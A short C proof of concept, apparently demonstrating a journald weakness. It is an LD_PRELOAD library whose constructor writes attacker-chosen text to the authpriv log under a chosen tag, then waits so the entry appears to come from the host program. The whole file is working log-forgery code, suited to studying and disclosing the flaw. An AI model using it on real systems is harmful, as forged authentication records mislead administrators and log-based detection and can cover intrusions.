/* Made into a library that is loaded before a program's own code (LD_PRELOAD): the program then logs
   TEXT as TAG and ends. Shows what an ordinary user can do to the journal's _COMM and _EXE. */
#include <stdlib.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

__attribute__((constructor)) static void forge(void) {
  const char* tag = getenv("TAG");
  const char* text = getenv("TEXT");
  const char* self = getenv("LD_PRELOAD");
  if (tag == NULL || text == NULL || self == NULL || getuid() == 0) return;
  char name[16] = {0};
  const int size = (int)readlink("/proc/self/exe", name, sizeof name - 1);
  if (size < 0) return;
  /* setpriv starts the program: not its turn yet */
  if (name[9] == 's' && name[10] == 'e') return;
  openlog(tag, LOG_PID, LOG_AUTHPRIV);
  syslog(LOG_NOTICE, "%s", text);
  const struct timespec look = {0, 300000000}; /* journald looks into /proc after the message came */
  nanosleep(&look, NULL);
  _exit(0);
}
